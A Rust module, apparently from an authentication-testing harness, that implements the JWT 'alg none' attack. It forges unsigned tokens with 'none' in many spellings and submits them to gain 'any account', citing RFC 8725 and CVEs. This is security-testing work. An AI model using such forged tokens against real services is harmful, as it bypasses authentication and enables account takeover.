//! A token without a signature.

use serde_json::Value;
use serde_json::json;

use crate::attack::{
    plan::{Attack, Expected, Needs, Tried},
    stage::{Stage, forged},
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "alg-none",
    title: "A token without a signature",
    has: "an account of his own, or only an idea of what a token looks like",
    does: "writes a token whose algorithm is 'none', in several spellings",
    gains: "any account",
    source: "RFC 8725 section 3.1; CVE-2015-2951; CVE-2020-28042; F028",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let mut tokens = Vec::new();
    for name in [json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!(" none"), json!(""), Value::Null] {
        let mut header = header.clone();
        header["alg"] = name.clone();
        for (what, signature) in [("nothing", &b""[..]), ("something", b"something")] {
            tokens.push((format!("alg {name} signed with {what}"), forged(&header, &claims, signature)));
        }
        tokens.push((format!("alg {name}, two parts"), forged(&header, &claims, "").trim_end_matches('.').to_owned()));
    }
    stage.try_tokens(&tokens).await
}
